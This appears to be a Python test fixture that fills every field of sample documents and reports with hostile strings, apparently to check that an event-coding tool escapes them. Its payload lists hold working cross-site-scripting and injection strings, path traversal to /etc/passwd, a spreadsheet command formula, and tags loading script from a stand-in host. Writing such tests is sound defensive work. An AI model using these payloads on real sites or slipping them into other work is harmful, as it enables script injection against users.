"""Documents that try to run a script or to reach the network, from every place a document can speak from."""

from datetime import date, timedelta

from detente.api.reading import Coded
from detente.model import Citation, DateSpan, Document, Evidence, Report

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>window.broken=1</script>",
    '"><img src=x onerror=window.broken=1>',
    "'><svg onload=window.broken=1>",
    "</title><script>window.broken=1</script>",
    f"</mark></p><iframe src={EVIL}/></iframe>",
    "{{ 7*7 }}{% for a in b %}",
    "<a href=javascript:window.broken=1>x</a>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<!--><meta http-equiv=refresh content=0;url={EVIL}/>",
    "\u202e<svg><desc></svg><script>window.broken=1</script>",
    f"<base href={EVIL}/>",
    f"<object data={EVIL}/o.swf></object><embed src={EVIL}/e>",
    f"<style>@import url({EVIL}/s.css); body {{ background: url({EVIL}/b.png) }}</style>",
    f"</style><style>*{{background:url({EVIL}/c)}}",
    f"<form action={EVIL}/><button>go</button></form>",
    "<details open ontoggle=window.broken=1>x</details>",
    f"<video src={EVIL}/v onerror=window.broken=1 autoplay></video>",
    f"<img srcset='{EVIL}/1x 1x' style='background:url({EVIL}/y)'>",
    "<input autofocus onfocus=window.broken=1>",
    "<svg><script href=data:,window.broken=1></script></svg>",
    f"<svg><image href={EVIL}/i.png /><use href={EVIL}/u.svg#x /></svg>",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'></noscript>",
    "<template><script>window.broken=1</script></template>",
    "</script><script>window.broken=1</script>",
    "]]><script>window.broken=1</script><![CDATA[",
    "--!><script>window.broken=1</script><!--",
    "${window.broken=1}#{window.broken=1}<%= 7*7 %>{{constructor.constructor('window.broken=1')()}}",
    "\x00<scr\x00ipt>window.broken=1</script>\x0b\x1b[2J",
    "\ufeff\u2066\u202d<script>window.broken=1</script>\u2069\u200f\u061c",
    "\u2028window.broken=1\u2029//'\\\"`",
    "+ADw-script+AD4-window.broken=1+ADw-/script+AD4-",
    "&lt;script&gt;window.broken=1&lt;/script&gt;&#60;script&#62;",
    "＜script＞window.broken=1＜/script＞\u0130\u0131ſ",
    "W" * 3_000,
    "\u0301" * 400 + "x" + "\u0336" * 400,
    "اختبار <script>window.broken=1</script> 测试 👩‍👩‍👧‍👦",
    "../../../../etc/passwd%00.html?x=<script>window.broken=1</script>",
    "=cmd|'/C calc'!A0;<script src=//evil.example/x.js></script>",
)
ADDRESSES = (
    "javascript:window.broken=1",
    "data:text/html,<script>window.broken=1</script>",
    f'{EVIL}/"onmouseover="window.broken=1',
    "HTTP://evil.example/<script>",
    "https://good.example/a?b=1&c=2",
    "\tjava\nscript:window.broken=1",
    "//evil.example/x",
    "vbscript:window.broken=1",
    "https://evil.example\x00.good.example/",
)
GOOD = "https://good.example"


def hostile_coded(n: int) -> Coded:
    """Documents with a payload in each place, each with one report that rests on its text."""
    documents, reports = zip(*(_document(number) for number in range(n)), strict=True)
    return Coded(documents, reports, ())


def _document(number: int) -> tuple[Document, Report]:
    bad, url = PAYLOADS[number % len(PAYLOADS)], ADDRESSES[number % len(ADDRESSES)]
    text = f"Number {number}: {bad} Tokyo protested {bad}."
    name = f"bad/{number}-{bad[:200]}"
    day = date(2020, 1, 1) + timedelta(days=number)
    span = DateSpan(day, day, "day", "text")
    cited = Citation(1, bad, 0, 5, bad, bad, bad, "2020", "2020", url)
    document = Document(name, text, bad, (bad,), bad, span, bad[:9], url, citations=(cited,), note=bad)
    report = Report(
        f"r{number}{bad[:200]}",
        "JPN",
        "RUS",
        ("ACCUSE", "SANCTION", "PROTEST")[number % 3],
        day,
        day,
        "day",
        "text",
        source_text=bad,
        target_text=bad,
        mode=None,  # of a code book, never of a document
        context=(bad,),
        issue=(bad,),
        cameo=bad,
        quad=(3, 4, 3)[number % 3],
        intensity=-2.0,
        intensity_scale="plover",
        place_text=bad,
        confidence=0.9,
        coder=bad,
        evidence=(Evidence(name, 0, len(text), text, 1, "own", bad, bad, url, bad),),
    )
    return document, report
